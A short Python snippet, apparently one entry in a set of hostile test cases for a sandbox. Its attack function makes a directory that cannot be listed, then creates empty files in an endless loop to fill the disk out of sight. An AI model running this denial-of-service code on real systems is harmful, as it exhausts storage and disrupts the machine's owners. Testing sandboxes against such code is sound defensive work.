# Attempts: fill the disk where nobody can look, in folders without permission to list.

def attack(world):
    import os
    os.mkdir("closed", 0o300)
    os.chdir("closed")
    number = 0
    while True:
        number += 1
        open(str(number), "w").close()
